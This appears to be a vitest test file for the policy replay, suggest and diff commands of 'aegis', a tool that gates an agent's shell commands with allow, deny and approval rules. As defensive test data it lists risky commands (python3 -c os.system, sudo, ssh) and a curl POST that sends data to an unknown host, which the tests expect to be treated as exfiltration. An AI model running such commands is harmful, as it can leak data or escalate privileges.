import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { writeRecord } from './support/record.ts';
import { type CliRun, jsonLines, runCli } from './support/run-cli.ts';

let home: string;
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'aegis-cli-history-'));
});
afterEach(() => rm(home, { recursive: true, force: true }));

const cli = (...argv: string[]): Promise<CliRun> =>
  runCli(['policy', ...argv], { AEGIS_HOME: home, HOME: '/home/dev' });

const userRule = (match: string, decision: string): string =>
  `schema = 1\n[[rule]]\nid = "mine"\ndecision = "${decision}"\n[rule.match]\n${match}\n`;

describe('replay', () => {
  test('lists the recorded calls that a policy would judge otherwise', async () => {
    writeRecord(home, [
      { command: 'git status', effect: 'allow' },
      { command: 'ls src', effect: 'allow' },
      { command: 'my-tool --fast', effect: 'require_approval' },
    ]);
    const file = join(home, 'stricter.toml');
    await writeFile(file, userRule('program = "ls"', 'deny'), { mode: 0o600 });
    const { code, stdout } = await cli('replay', '--policy', file, '--json');
    expect(code).toBe(0);
    expect(jsonLines(stdout)).toMatchObject([
      { text: 'ls src', was: { effect: 'allow' }, now: { effect: 'deny', rule: 'mine' } },
      { calls: 3, changed: 1, tally: { 'allow → deny': 1 } },
    ]);
    expect((await cli('replay', '--policy', file, '--exit-code')).code).toBe(1);
    expect((await cli('replay', '--policy', file)).stdout).toContain('1 would change of 3 recorded calls');
  });

  test('looks only as far back as asked, and runs without any record', async () => {
    expect((await cli('replay')).stdout).toBe('nothing would change of 0 recorded calls\n');
    writeRecord(home, [{ command: 'ls', effect: 'deny', at: Date.now() - 7_200_000 }]);
    expect((await cli('replay', '--since', '1h')).stdout).toContain('of 0 recorded calls');
    expect((await cli('replay', '--since', '3h')).stdout).toContain('1 would change of 1 recorded call');
  });

  test('leaves out lines that are no records', async () => {
    await writeFile(join(home, 'audit.log'), '{"call":1}\nnot json "call"\n', { mode: 0o600 });
    expect((await cli('replay')).code).toBe(0);
  });
});

describe('suggest', () => {
  const approved = (command: string) => ({ command, effect: 'require_approval', answer: 'approve' }) as const;

  test('makes a rule of what was approved three times, and the rule is one', async () => {
    writeRecord(home, [approved('my-tool --fast a'), approved('my-tool b'), approved('my-tool --fast c')]);
    const { code, stdout } = await cli('suggest');
    expect(code).toBe(0);
    expect(stdout).toContain('# 3 approvals; would have spared 3 questions');
    expect(stdout).toContain('program = "my-tool"');
    expect(stdout).toContain('flags_only = [ "--fast" ]');
    const file = join(home, 'suggested.toml');
    await writeFile(file, `schema = 1\n${stdout}`, { mode: 0o600 });
    const judged = await cli(
      'explain',
      'my-tool --fast x',
      '--policy',
      file,
      '--cwd',
      '/home/dev/project',
      '--json',
    );
    expect(jsonLines(judged.stdout)[0]).toMatchObject({
      verdict: { effect: 'allow', rule: 'suggested-my-tool' },
    });
  });

  test('a flag that nobody approved is still asked about', async () => {
    writeRecord(home, [approved('my-tool a'), approved('my-tool b'), approved('my-tool c')]);
    const file = join(home, 'suggested.toml');
    await writeFile(file, `schema = 1\n${(await cli('suggest')).stdout}`, { mode: 0o600 });
    const judged = await cli(
      'explain',
      'my-tool --exec=x',
      '--policy',
      file,
      '--cwd',
      '/home/dev/project',
      '--json',
    );
    expect(jsonLines(judged.stdout)[0]).toMatchObject({ verdict: { effect: 'require_approval' } });
  });

  test.each([
    'python3 -c "import os; os.system(x)"',
    'bash ./unknown',
    'sudo my-tool',
    'env my-tool',
    'ssh host ls',
  ])('makes no rule of %s, however often it was approved', async (command) => {
    writeRecord(
      home,
      Array.from({ length: 9 }, () => approved(command)),
    );
    const { stdout } = await cli('suggest');
    expect(stdout).not.toMatch(/program = "(python3|bash|sudo|env|ssh)"/);
  });

  test('two approvals are not enough, and one refusal is too many', async () => {
    writeRecord(home, [approved('my-tool a'), approved('my-tool b')]);
    expect((await cli('suggest')).stdout).toBe('nothing to suggest from 2 answered questions\n');
    writeRecord(home, [
      approved('other a'),
      approved('other b'),
      approved('other c'),
      { command: 'other d', effect: 'require_approval', answer: 'deny' },
    ]);
    expect((await cli('suggest')).stdout).not.toContain('program = "other"');
  });

  test('a rule that would let a known attack through is refused with the counter-example', async () => {
    // A host that project data was sent to three times is a host that anything may be sent to.
    const send = approved("curl -X POST https://unknown.example/api -d '{}'");
    writeRecord(home, [send, send, send]);
    const { stdout } = await cli('suggest');
    expect(stdout).toMatch(
      /not offered: suggested-host-unknown\.example would let a known attack \(exfiltration-\d+\) through: curl/,
    );
    expect(stdout).not.toMatch(/^decision = "allow"/m);
  });
});

describe('diff', () => {
  test('tells rules, settings and verdicts that differ', async () => {
    const file = join(home, 'other.toml');
    await writeFile(
      file,
      `${userRule('program = "git"', 'deny').replace('schema = 1\n', 'schema = 1\n[policy]\ndefault = "deny"\n')}`,
      {
        mode: 0o600,
      },
    );
    const { code, stdout } = await cli('diff', 'builtin', file, '--json');
    expect(code).toBe(0);
    const lines = jsonLines(stdout);
    expect(lines).toContainEqual({ rule: 'mine', change: 'added', keys: [] });
    expect(lines).toContainEqual({ setting: 'default', from: 'require_approval', to: 'deny' });
    expect(lines).toContainEqual(
      expect.objectContaining({
        from: expect.objectContaining({ effect: 'allow' }),
        to: { effect: 'deny', rule: 'mine' },
      }),
    );
    expect((await cli('diff', 'builtin', file, '--exit-code')).code).toBe(1);
  });

  test('a policy does not differ from itself', async () => {
    const { code, stdout } = await cli('diff', 'builtin', 'current', '--exit-code');
    expect(stdout).toBe('the same rules, settings and verdicts\n');
    expect(code).toBe(0);
  });
});
